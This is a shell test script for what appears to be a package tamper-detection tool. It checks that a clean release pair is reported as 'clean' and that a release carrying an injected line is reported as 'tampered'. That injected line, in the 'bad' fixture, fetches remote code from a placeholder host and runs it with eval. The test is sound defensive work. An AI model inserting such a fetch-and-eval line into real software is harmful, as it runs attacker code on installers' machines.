#!/bin/sh
# The example of the library says what the program says.  $3 = the example
example=$(realpath "$3")
. "$(dirname "$0")/lib.sh"

release old 1.0.0
release new 1.0.1
release bad 1.0.1 "fetch('https://cdn.stats.example/x').then((r) => r.text()).then(eval);"

agrees() { # STATUS VERDICT OLD NEW
	checks=$((checks + 1))
	"$example" "$3" "$4" >out 2>err
	status=$?
	[ "$status" -eq "$1" ] || fail "the example ended with $status, not $1, about $4"
	has out "$2, probability"
	is "$1" diff --format json "$3" "$4"
	has out "\"verdict\": \"$2\""
}

agrees 0 clean old.tgz new.tgz
agrees 1 tampered old.tgz bad.tgz
"$example" nowhere.tgz new.tgz 2>err
ok 'no answer is 2' [ $? -eq 2 ]
has err nowhere.tgz

done_
